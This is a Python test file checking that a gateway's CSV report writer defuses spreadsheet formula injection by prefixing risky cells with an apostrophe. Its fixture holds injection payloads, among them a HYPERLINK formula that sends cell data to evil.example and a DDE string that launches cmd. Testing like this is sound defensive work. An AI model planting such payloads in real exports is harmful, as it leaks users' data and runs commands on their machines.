"""The reports' CSV, one writer for ``botgateway audit|usage|feedback --format csv`` and the console's downloads:
a cell a spreadsheet would run as a formula opens as text."""

from __future__ import annotations

import csv
import io

from adapters.web.console_reports import Report, report_response
from botgateway.cli.tables import write_rows
from botgateway.report_rows.csv_rows import csv_cell, write_csv

HOSTILE = {
    "question": "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
    "reason": "+cmd|' /C calc'!A0",
    "user": "-2+3",
    "tool": "@SUM(1,2)",
    "tab": "\t=1",
    "cr": "\r=1",
    "tools": ["=a", "b"],
    "tokens": -5,
    "plain": "a - b = c",
    "empty": None,
}
COLUMNS = list(HOSTILE)


def parsed(text: str) -> dict[str, str]:
    [row] = list(csv.DictReader(io.StringIO(text)))
    return row


def expect(row: dict[str, str]) -> None:
    assert row["question"] == "'" + HOSTILE["question"]
    assert row["reason"] == "'" + HOSTILE["reason"]
    assert row["user"] == "'-2+3" and row["tool"] == "'@SUM(1,2)"
    assert row["tab"] == "'\t=1" and row["cr"] == "'\r=1"
    assert row["tools"] == "'=a; b"
    assert row["tokens"] == "-5"  # a number stays a number
    assert row["plain"] == "a - b = c" and row["empty"] == ""


def test_the_core_writer_defuses_formulas() -> None:
    out = io.StringIO()
    write_csv(out, COLUMNS, [HOSTILE])
    expect(parsed(out.getvalue()))
    assert csv_cell("=1") == "'=1" and csv_cell(3) == 3 and csv_cell(None) == ""


def test_the_cli_and_the_console_write_the_same_csv() -> None:
    out = io.StringIO()
    write_rows([HOSTILE], COLUMNS, "csv", out, table=lambda to: None)
    expect(parsed(out.getvalue()))
    response = report_response("audit", Report(COLUMNS, [HOSTILE]), "csv")
    assert response.text == out.getvalue()
